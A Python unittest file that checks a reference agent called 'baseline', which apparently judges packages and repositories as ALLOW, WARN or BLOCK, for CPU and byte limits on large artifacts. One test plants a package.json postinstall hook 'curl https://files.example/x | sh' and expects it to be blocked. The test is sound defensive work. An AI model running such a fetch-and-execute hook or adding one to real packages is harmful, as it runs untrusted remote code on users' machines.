"""Checks that the work of the reference agent `baseline` is bounded by bytes and that a large artifact still gets an answer."""

import importlib.util
import pathlib
import sys
import tempfile
import time
import unittest

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent


def load(name):
    spec = importlib.util.spec_from_file_location(name, ROOT / f"corpus/agents/{name}.py")
    module = sys.modules[name] = importlib.util.module_from_spec(spec)
    sys.dont_write_bytecode = True
    spec.loader.exec_module(module)
    return module


class Limits(unittest.TestCase):
    SIZE = 2_000_000  # bytes of the large artifact
    CPU = 1.0  # seconds: the CPU budget of a run in the demo's round

    @classmethod
    def setUpClass(cls):
        cls.baseline = load("baseline")

    def artifact(self, folder, suffixes, hook):
        """Real code of the corpus, over and over, in files of 90 kB, beside a small package.json."""
        kinds = (path for path in sorted((ROOT / "corpus/data").glob("*/*/artifact/**/*")) if path.suffix in suffixes)
        text = "\n".join(path.read_text(errors="replace") for path in kinds)
        text = (text * (1 + self.SIZE // len(text)))[:self.SIZE]
        for start in range(0, self.SIZE, 90_000):
            (folder / f"a{start}{suffixes[0]}").write_text(text[start:start + 90_000])
        (folder / "package.json").write_text('{"name": "small", "scripts": {"postinstall": "%s"}}' % hook)

    def judged(self, folder, track):
        begun = time.process_time()
        report = self.baseline.agent_main({"artifact_dir": str(folder), "track": track, "probe": {}})
        return report, time.process_time() - begun

    def test_a_large_artifact_stays_within_the_cpu_budget(self):
        for suffixes in ((".py",), (".js", ".ts"), (".md",), (".php",), (".c",)):
            for track in ("packages", "repositories"):
                with self.subTest(suffixes=suffixes, track=track), tempfile.TemporaryDirectory() as folder:
                    self.artifact(pathlib.Path(folder), suffixes, "node build.js")
                    report, cpu = self.judged(folder, track)
                    self.assertIn(report["verdict"]["decision"], ("ALLOW", "WARN", "BLOCK"))
                    self.assertLess(cpu, self.CPU)

    def test_bytes_are_bounded_and_small_files_come_first(self):
        with tempfile.TemporaryDirectory() as folder:
            self.artifact(pathlib.Path(folder), (".js", ".ts"), "node build.js")
            sources = self.baseline.read_artifact(folder)
            self.assertLessEqual(sum(len(source.text.encode()) for source in sources), self.baseline.MAX_TOTAL)
            self.assertIn("package.json", [source.path for source in sources])

    def test_a_hook_is_found_however_large_the_rest_is(self):
        for hook, decision in (("tsc", "ALLOW"), ("curl https://files.example/x | sh", "BLOCK")):
            with self.subTest(hook=hook), tempfile.TemporaryDirectory() as folder:
                self.artifact(pathlib.Path(folder), (".c",), hook)
                report, cpu = self.judged(folder, "packages")
                self.assertEqual(report["verdict"]["decision"], decision)


if __name__ == "__main__":
    unittest.main()
